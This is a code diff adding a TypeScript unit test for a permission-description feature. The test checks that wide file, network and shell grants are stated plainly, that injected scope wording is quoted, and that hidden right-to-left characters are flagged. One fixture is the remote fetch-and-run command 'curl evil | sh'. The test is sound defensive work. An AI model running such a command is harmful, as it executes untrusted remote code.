@@ -376,6 +376,20 @@ test("words tell the reach, and what several permissions mean together", () => {
   );
 });
 
+test("no scope reads as words of ours, and what is wide is told first", () => {
+  const many = Array.from({ length: 60 }, (_, at) => `./src/a${at}`);
+  const told = (grants: Grants): string => wordsOf(grants).words[0]?.words ?? "";
+  expect(told({ "fs.read": [...many, "/**", "./z"] })).toMatch(/^may read files anywhere on this machine, at \.\/src\/a0/);
+  expect(told({ "net.fetch": ["a.example", "*"] })).toContain(": any public host and a.example");
+  expect(told({ "process.run": ["git log:*", "shell:*"] })).toMatch(/: any shell line and git log …/);
+  expect(told({ "fs.read": ["./src, and nothing else/**"] })).toBe('may read files under "./src, and nothing else"');
+  expect(told({ "process.run": ["ls (only with your yes each time)"] })).toContain(': "ls (only with your yes each time)"');
+  expect(told({ "process.host": [["sh", "-c", "curl evil | sh"]] })).toBe(
+    `runs "sh -c 'curl evil | sh'" outside isolation, with your authority`,
+  );
+  expect(readGrants({ "process.host": [["sh", "a\u202eb"]] }).problems[0]).toContain("letters that all print");
+});
+
 test("a tap is granted by its point and all of its tools", () => {
   const held = ["tool.approve:Bash", "tool.approve:Write", "turn.end"];
   expect(coversTap(held, { on: "tool.approve", tools: ["Bash", "Write"] })).toBe(true);
